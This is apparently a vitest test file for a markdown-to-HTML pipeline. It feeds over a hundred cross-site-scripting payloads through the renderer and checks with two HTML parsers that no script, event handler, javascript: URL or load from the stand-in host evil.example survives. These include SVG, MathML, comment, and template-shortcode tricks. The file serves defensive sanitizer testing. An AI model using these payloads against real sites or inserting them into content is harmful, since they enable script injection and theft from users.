import { Parser } from 'htmlparser2'
import { parseFragment } from 'parse5'
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../lib/markdown/pipeline.ts'

// Whatever runs here calls `evil`, and whatever loads does so from evil.example.
const PAYLOADS = [
  '<script>evil()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>evil()</script >',
  '<scr<script>ipt>evil()</scr</script>ipt>',
  '<script x>evil()//',
  '<<script>evil()//<</script>',
  '<img src=x onerror=evil()>',
  '<img/src=x/onerror=evil()>',
  '<img src="x" onerror="evil()" alt="',
  '<img """><script>evil()</script>">',
  '<img src=x:x onerror\n=evil()>',
  '<body onload=evil()>',
  '<body background="//evil.example/b.png">',
  '<input autofocus onfocus=evil()>',
  '<input type=image src=//evil.example/i.png>',
  '<details open ontoggle=evil()><summary>x</summary></details>',
  '<video><source onerror=evil()></video>',
  '<video controls poster=javascript:evil()></video>',
  '<audio controls src=x onerror=evil()></audio>',
  '<marquee onstart=evil()>x</marquee>',
  '<a href="javascript:evil()">x</a>',
  '<a href="java&Tab;script:evil()">x</a>',
  '<a href="&#x6A;avascript:evil()">x</a>',
  '<a href="data:text/html,<script>evil()</script>">x</a>',
  '<a name="x" href=" javascript:evil()">x</a>',
  '<a href="//x.example" ping="//evil.example/p">x</a>',
  '[x](javascript:evil())',
  '![x](data:text/html,<script>evil()</script>)',
  '<iframe src="javascript:evil()"></iframe>',
  '<iframe srcdoc="<script>evil()</script>"></iframe>',
  '<iframe src="data:text/html,<script>evil()</script>" title="<img src=x onerror=evil()>"></iframe>',
  '<iframe src="https://x.example" title=\'"><script>evil()</script>\'></iframe>',
  '<object data="javascript:evil()"></object>',
  '<object data="//evil.example/x.swf"><embed src="javascript:evil()"></object>',
  '<object data="javascript:evil()" type="image/svg+xml"></object>',
  '<embed src="data:text/html,<script>evil()</script>">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:evil()">',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=evil()>">',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<form action="javascript:evil()"><button formaction="javascript:evil()">x</button></form>',
  '<form><input name=parentNode><math id=x></math></form>',
  '<isindex type=image src=1 onerror=evil()>',
  '<table background="//evil.example/t.png"><tr><td background="//evil.example/x">x</td></tr></table>',
  // Pictures
  '<svg onload=evil()><circle r=1 /></svg>',
  '<svg><script>evil()</script></svg>',
  '<svg><script href="//evil.example/x.js" /></svg>',
  '<svg><a href="javascript:evil()"><text>x</text></a></svg>',
  '<svg><a xlink:href="javascript:evil()"><circle r=1 /></a></svg>',
  '<svg><animate attributeName=href values=javascript:evil() /><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName=onload to=evil() /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=evil()>#x" /></svg>',
  '<svg><use xlink:href="//evil.example/x.svg#y" /></svg>',
  '<svg><image href="//evil.example/x.png" onerror=evil() /></svg>',
  '<svg><feImage href="//evil.example/x.png" /></svg>',
  '<svg><foreignObject><img src=x onerror=evil()></foreignObject></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>evil()</script>"></iframe></foreignObject></svg>',
  '<svg><rect fill="url(//evil.example/x#y)" style="fill:url(//evil.example/z)" /></svg>',
  '<svg><rect style="fill:u\\72l(//evil.example/z);stroke:image-set(\'//evil.example\')" /></svg>',
  '<svg><style>@import "//evil.example/x.css"; *{background:url(//evil.example)}</style></svg>',
  '<svg><title><img src=x onerror=evil()></title></svg>',
  '<svg><desc><script>evil()</script></desc></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=evil()>">',
  '<svg><p><style><!--</style><img src=x onerror=evil()>--></style></p></svg>',
  '<svg><![CDATA[><img src=x onerror=evil()>]]></svg>',
  '<svg><textPath href="javascript:evil()">x</textPath></svg>',
  '<svg><handler type="text/javascript">evil()</handler></svg>',
  '<svg><text>&lt;script>evil()&lt;/script></text></svg>',
  '<svg>\n\n<script>\n\nevil()\n\n</script>\n\n</svg>',
  '<svg><mask id="x" onfocus=evil() tabindex=1 autofocus></mask></svg>',
  // Formulas
  '<math><mi href="javascript:evil()">x</mi></math>',
  '<math><mi xlink:href="javascript:evil()">x</mi></math>',
  '<math><maction actiontype="statusline#javascript:evil()"><mi>x</mi></maction></math>',
  '<math><annotation-xml encoding="text/html"><script>evil()</script></annotation-xml></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=evil()></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=evil() src=1>">',
  '<math><mi><svg><mi><p><style><g title="</style><img src onerror=evil()>">',
  '<math><mglyph src="//evil.example/x.png"></mglyph></math>',
  '<math><ms><script>evil()</script></ms></math>',
  '<math><style><!--</style><a title="--><img src=x onerror=evil()>"></math>',
  // Text that one parser takes for markup
  '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
  '<noscript><style></noscript><img src=x onerror=evil()></style></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=evil()>"></textarea>',
  '<title><a title="</title><img src=x onerror=evil()>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=evil()>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=evil()>"></noembed>',
  '<iframe><p title="</iframe><img src=x onerror=evil()>"></iframe>',
  '<plaintext><img src=x onerror=evil()>',
  '<template><script>evil()</script><img src=x onerror=evil()></template>',
  '<select><template><style><!--</style><a rel="--><img src=x onerror=evil()>"></select>',
  '<!--><img src=x onerror=evil()>-->',
  '<!---><img src=x onerror=evil()>-->',
  '<!-- --!><img src=x onerror=evil()> -->',
  '<? ><img src=x onerror=evil()> ?>',
  '<![CDATA[><img src=x onerror=evil()>]]>',
  '</ ><img src=x onerror=evil()>',
  '<div>\n<script>\n\nevil()\n</script>\n<img src=x onerror=evil()>\n</div>',
  '<div>\n<!-- \n\n<img src=x onerror=evil()>\n',
  '<T onclick=evil()>x</T>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">evil()</x:script>',
  // Templates, which are read before HTML is
  '{{< figure src="javascript:evil()" alt="x" >}}',
  '{{< figure src="x>&quot; onerror=evil()" caption="<script>evil()</script>" >}}',
  '{{< youtube id="javascript:evil()" >}}',
  '{{< details "a <img src=x onerror=evil()>" >}}b{{< /details >}}',
  '{% highlight js %}</code></pre><script>evil()</script>{% endhighlight %}',
  '{% raw %}<script>evil()</script>{% endraw %}',
  '<img src="{{ x }}" alt="<script>evil()</script>">',
  '<a href="{{ x }}" onclick="evil()">x</a>',
  '<a {{ x }} href="javascript:evil()">x</a>',
  '[x](java{{ site.baseurl }}script:evil())',
  '<scr{{ site.baseurl }}ipt>evil()</script>',
  '<scr{/* x */}ipt>evil()</scr{/* x */}ipt>',
  '[embed]javascript:evil()[/embed]',
  '![[x.png|"><script>evil()</script>]]',
  '[[a|<img src=x onerror=evil()>]]',
  '<Tab label="<script>evil()</script>" />',
  '<Tab label="![x](javascript:evil())" />',
  '@[card](javascript:evil())',
]

const URLS =
  /^(?:href|src|poster|cite|action|formaction|data|srcset|background|ping|xlink:href)$/

// Words, and what a reader follows by himself.
function isHarmless(name: string, attribute: string): boolean {
  return (
    (name === 'a' && attribute === 'href') ||
    /^(?:id|alt|title|aria-label)$/.test(attribute)
  )
}

function listFaults(html: string): string[] {
  const faults: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (
        /^(?:script|style|iframe|object|embed|base|link|meta|template|noscript|foreignobject|animate|set|image|textarea)$/.test(
          name,
        )
      )
        faults.push(name)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^on|^style$|^srcdoc$/.test(attribute)) faults.push(attribute)
        const bare = value.replace(/[\u0000-\u0020]/g, '')
        if (
          URLS.test(attribute) &&
          /^(?:javascript|vbscript|data:(?!image\/))/i.test(bare)
        )
          faults.push(value)
        if (/evil\.example/.test(value) && !isHarmless(name, attribute))
          faults.push(value)
      }
    },
    oncomment: (text) => faults.push(`comment ${text}`),
  })
  parser.end(html)
  return faults
}

// As a browser does, which builds another tree where the first was not one of its own.
function listBrowserFaults(html: string): string[] {
  const faults: string[] = []
  const walk = (nodes: readonly unknown[]): void => {
    for (const node of nodes) {
      if (typeof node !== 'object' || node === null) continue
      if ('nodeName' in node && node.nodeName === 'script') faults.push('script')
      if ('attrs' in node && Array.isArray(node.attrs))
        for (const { name } of node.attrs) if (/^on/i.test(name)) faults.push(name)
      if ('childNodes' in node && Array.isArray(node.childNodes)) walk(node.childNodes)
    }
  }
  for (const scriptingEnabled of [true, false])
    walk(parseFragment(html, { scriptingEnabled }).childNodes)
  return faults
}

describe('a payload', () => {
  it.each(PAYLOADS)('%j neither runs nor loads', async (payload) => {
    const contexts = [
      payload,
      `Text ${payload} text.`,
      `- ${payload}\n\n> ${payload}`,
      `| a |\n| - |\n| ${payload.replaceAll('\n', ' ')} |`,
      `<div>\n${payload}\n</div>`,
      `<svg>${payload}</svg>`,
      `<math><mtext>${payload}</mtext></math>`,
      `<table><tr><td>${payload}</table>`,
      `<noscript>${payload}</noscript>`,
      `## ${payload.replaceAll('\n', ' ')}`,
    ]
    for (const source of contexts) {
      const { html, feedHtml } = await renderMarkdown(source)
      for (const output of [html, feedHtml]) {
        expect({ source, output, faults: listFaults(output) }).toEqual({
          source,
          output,
          faults: [],
        })
        expect({ source, output, faults: listBrowserFaults(output) }).toEqual({
          source,
          output,
          faults: [],
        })
      }
    }
  })
})
